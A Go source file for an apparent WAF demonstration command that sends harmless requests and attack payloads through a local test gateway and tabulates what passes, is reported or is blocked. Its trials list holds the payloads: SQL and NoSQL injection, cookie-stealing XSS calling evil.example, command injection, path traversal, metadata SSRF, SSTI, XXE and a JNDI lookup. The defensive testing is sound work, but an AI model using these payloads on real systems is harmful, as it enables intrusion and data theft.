package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"text/tabwriter"
	"time"

	"kongwaf/examples/deck"
	"kongwaf/kong/gateway/demo"
)

const demoAttackHelp = `Usage: kong-waf demo-attack [--listen ADDR] [--upstream ADDR] [--console ADDR|off] [--exit]

Sends good and bad requests through the stand-in gateway, with waf-detect in each of its modes, and prints
what passed, what was reported, what was blocked. Exits with 1 if that is not as it should be.
`

// runDemoAttack is `make demo-attack`: good and bad requests through the gateway in each
// mode, and a table of what came of them.
func runDemoAttack(args []string, _ io.Reader, stdout, stderr io.Writer) int {
	flags := newFlags("demo-attack", demoAttackHelp, stderr)
	o := demoOptions{deck: deck.Modes}
	o.addFlags(flags)
	leave := flags.Bool("exit", false, "end after the table, instead of keeping the console for Ctrl-C")
	if code, stop := parse(flags, args, noOperands); stop {
		return code
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	attacked := make(chan error, 1)
	o.ready = func() {
		go func() {
			err := attackAll(ctx, stdout, "http://"+o.listen)
			if o.console != "off" && !*leave && err == nil {
				fmt.Fprintf(stdout, "\nEach of them, with the reasons: http://%s\n", o.console)
			}
			if *leave || err != nil {
				cancel()
			} else {
				fmt.Fprintf(stdout, "As lines of JSON, until this ends: %s\nCtrl-C ends everything.\n", o.events)
			}
			attacked <- err
		}()
	}
	err := o.run(ctx, stdout, stderr)
	select {
	case failed := <-attacked:
		err = errors.Join(err, failed)
	default:
	}
	if err != nil {
		fmt.Fprintf(stderr, "kong-waf demo-attack: %v\n", err)
		return 1
	}
	return 0
}

// trial is one request of the demonstration. What is bad has a class.
type trial struct {
	name, class string
	query       string // one parameter's value
	header      [2]string
	contentType string
	body        string
}

// trials are attacks, each beside a harmless twin.
var trials = []trial{
	{name: "a name with an apostrophe", query: "Seán O'Brien"},
	{name: "a condition that is always true", class: "sqli", query: "' OR 1=1 -- "},
	{name: "words that SQL has too", query: "select the best of the union, or drop by at the table"},
	{name: "another table's rows", class: "sqli", query: "7 UNION SELECT login, secret FROM accounts"},
	{name: "markup in a comment", contentType: "application/json", body: `{"text":"this is <b>bold</b>, 1 < 2 & so on"}`},
	{name: "a script in a comment", class: "xss", contentType: "application/json", body: `{"text":"<img src=x onerror=fetch('//evil.example/'+document.cookie)>"}`},
	{name: "a form with a host", contentType: "application/x-www-form-urlencoded", body: "host=example.com&count=4"},
	{name: "a command behind the host", class: "rce", contentType: "application/x-www-form-urlencoded", body: "host=example.com%3Bcat+%2Fetc%2Fpasswd&count=4"},
	{name: "a file's name", query: "reports/2026/march.pdf"},
	{name: "a file outside", class: "ptrav", query: "../../../../etc/passwd"},
	{name: "a link", query: "https://example.com/pictures/cat.png"},
	{name: "the cloud's own address", class: "ssrf", query: "http://169.254.169.254/latest/meta-data/"},
	{name: "braces in a text", query: "Dear {name}, your order is on its way"},
	{name: "a template that computes", class: "ssti", query: "{{ ''.__class__.__mro__[1].__subclasses__() }}"},
	{name: "a filter in JSON", contentType: "application/json", body: `{"user":"ann","limit":10}`},
	{name: "an operator as password", class: "nosqli", contentType: "application/json", body: `{"user":"ann","password":{"$ne":null}}`},
	{name: "an XML document", contentType: "application/xml", body: `<order><item id="7">tea</item></order>`},
	{name: "an entity that reads a file", class: "xxe", contentType: "application/xml", body: `<!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><o>&x;</o>`},
	{name: "a browser", header: [2]string{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"}},
	{name: "a lookup in a header", class: "rce", header: [2]string{"User-Agent", "${jndi:ldap://evil.example/a}"}},
}

// shown are the modes of the demonstration, each with its route and what becomes of an attack.
var shown = []struct{ name, route, attack string }{
	{"off", "/off", "passed"},
	{"monitoring", "/monitoring", "reported"},
	{"safe_blocking", "/safe", "reported"},
	{"safe_blocking, from grey", "/safe-grey", "blocked"},
	{"block", "/block", "blocked"},
}

// results are what came of the trials in one mode.
type results struct{ passed, reported, blocked int }

// attackAll runs the trials in each mode and prints the table. It returns an error if a
// good request was not let through, or a bad one was treated otherwise than the mode says.
func attackAll(ctx context.Context, out io.Writer, gateway string) error {
	fmt.Fprintf(out, "\n%d good and %d bad requests in each mode:\n\n", countTrials(false), countTrials(true))
	table := tabwriter.NewWriter(out, 0, 0, 3, ' ', tabwriter.AlignRight)
	fmt.Fprintln(table, "mode\trequests\tpassed\treported\tblocked\t")
	var wrong []error
	blocked := map[string]int{}
	for _, mode := range shown {
		var good, bad results
		for _, t := range trials {
			outcome, err := t.send(ctx, gateway+mode.route)
			if err != nil {
				return err
			}
			into, expected := &good, "passed"
			if t.class != "" {
				into = &bad
				expected = mode.attack
			}
			switch outcome {
			case "passed":
				into.passed++
			case "reported":
				into.reported++
			case "blocked":
				into.blocked++
				if mode.name == "block" {
					blocked[t.class]++
				}
			}
			if outcome != expected {
				wrong = append(wrong, fmt.Errorf("mode %s: %s was %s, not %s", mode.name, t.name, outcome, expected))
			}
		}
		fmt.Fprintf(table, "%s\tgood\t%d\t%d\t%d\t\n\tbad\t%d\t%d\t%d\t\n", mode.name, good.passed, good.reported, good.blocked, bad.passed, bad.reported, bad.blocked)
	}
	if err := table.Flush(); err != nil {
		return err
	}
	var classes []string
	for _, t := range trials {
		if n := blocked[t.class]; n > 0 && t.class != "" {
			classes = append(classes, fmt.Sprintf("%s %d", t.class, n))
			delete(blocked, t.class)
		}
	}
	fmt.Fprintf(out, "\nblocked by class: %s\n", strings.Join(classes, ", "))
	return errors.Join(wrong...)
}

func countTrials(bad bool) (n int) {
	for _, t := range trials {
		if (t.class != "") == bad {
			n++
		}
	}
	return n
}

// trialTime is how long one request may take.
const trialTime = 10 * time.Second

// send sends the request and returns what came of it: passed, reported or blocked. The
// upstream tells what it was told (X-WAF-Verdict).
func (t trial) send(ctx context.Context, route string) (string, error) {
	ctx, cancel := context.WithTimeout(ctx, trialTime)
	defer cancel()
	target := route + "/things"
	if t.query != "" {
		target += "?q=" + url.QueryEscape(t.query)
	}
	method := http.MethodGet
	if t.body != "" {
		method = http.MethodPost
	}
	r, err := http.NewRequestWithContext(ctx, method, target, strings.NewReader(t.body))
	if err != nil {
		return "", err
	}
	if t.contentType != "" {
		r.Header.Set("Content-Type", t.contentType)
	}
	if t.header[0] != "" {
		r.Header.Set(t.header[0], t.header[1])
	}
	answer, err := http.DefaultClient.Do(r)
	if err != nil {
		return "", err
	}
	defer answer.Body.Close()
	body, err := io.ReadAll(io.LimitReader(answer.Body, 1<<20))
	if err != nil {
		return "", err
	}
	switch answer.StatusCode {
	case http.StatusForbidden:
		return "blocked", nil
	case http.StatusOK:
	default:
		return "", fmt.Errorf("%s: the gateway answered %s", t.name, answer.Status)
	}
	var echo demo.Echo
	if err := json.Unmarshal(body, &echo); err != nil {
		return "", fmt.Errorf("%s: the demo API's answer: %w", t.name, err)
	}
	if echo.Headers.Get("X-WAF-Verdict") == "reported" {
		return "reported", nil
	}
	return "passed", nil
}
